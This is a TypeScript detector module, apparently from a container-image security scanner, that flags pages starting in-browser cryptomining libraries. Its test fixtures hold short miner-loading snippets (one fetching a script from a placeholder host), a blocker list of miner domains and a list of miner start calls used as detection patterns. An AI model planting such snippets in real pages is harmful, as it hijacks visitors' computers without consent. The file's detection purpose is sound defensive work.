import { isDeclaredMiner } from './declared.ts';
import type { Detector, Scene } from './detector.ts';
import { fileFinding } from './file-finding.ts';
import { tellingFiles } from './telling-files.ts';
import { clip } from './wording.ts';

/** Mining in the browsers of those who visit a page. */
export const browserMiner: Detector = {
  id: 'browser-miner',
  version: 1,
  title: 'Makes the browsers of its visitors mine.',
  attack: ['T1496.001', 'T1189'],
  description: `
Pages can load a script that mines in the browser of whoever looks at them. It shows in a page or script of the image that starts
one of these libraries with a site key. *Suspicious*: nothing tells whether the page is served, or whether visitors are asked.
Lists of such addresses for blockers are nothing.
`,
  fires: [
    {
      name: 'a page with a miner',
      severity: 'suspicious',
      image: {
        files: {
          '/usr/share/nginx/html/index.html':
            '<html><script src="https://static.miner.example/lib.js"></script><script>var m=new CoinHive.Anonymous("sitekey",{throttle:0.3});m.start();</script></html>\n',
        },
      },
    },
    {
      name: 'another library',
      severity: 'suspicious',
      image: { files: { '/var/www/html/app.js': 'var c = new CRLT.Anonymous("key", {threads: 4}); c.start();\n' } },
    },
  ],
  silent: [
    {
      name: 'a list for a blocker',
      image: { files: { '/etc/blocker/miners.txt': '||coinhive.com^\n||coin-hive.com^\ncoinhive.min.js\n' } },
    },
    { name: 'a page without one', image: { files: { '/usr/share/nginx/html/index.html': '<html>Welcome</html>\n' } } },
  ],
  detect(scene) {
    return [...pages(scene)].slice(0, 50).flatMap(({ path, layer, text, at }) =>
      fileFinding(scene, {
        threat: 'hostile',
        declared: isDeclaredMiner(scene),
        path,
        layer,
        line: text.slice(0, at).split('\n').length,
        reach: 'present',
        title: 'Makes the browsers of those who see this page mine',
        text: clip(text.slice(Math.max(0, at - 60), at + 240), 300),
        confidence: 'medium',
      }),
    );
  },
};

/** How the libraries are started with a site key. Sources: the libraries' own documentation (all closed by now, copies go on). */
const calls = [
  'CoinHive.Anonymous(',
  'CoinHive.User(',
  'CoinHive.Token(',
  'CRLT.Anonymous(',
  'CRLT.User(',
  'deepMiner.Anonymous(',
  'deepMiner.Init(',
  'WMP.Anonymous(',
  'ProjectPoi.Anonymous(',
  'CoinImp.Anonymous(',
];

function* pages(
  scene: Scene,
): Iterable<{ readonly path: string; readonly layer: number; readonly text: string; readonly at: number }> {
  for (const file of tellingFiles(scene).minerPages) {
    const text = scene.facts.files.text(file);
    if (text === undefined) continue;
    const at = calls.map((call) => text.indexOf(call)).filter((each) => each >= 0);
    if (at.length > 0) yield { path: file.path, layer: file.layer, text, at: Math.min(...at) };
  }
}
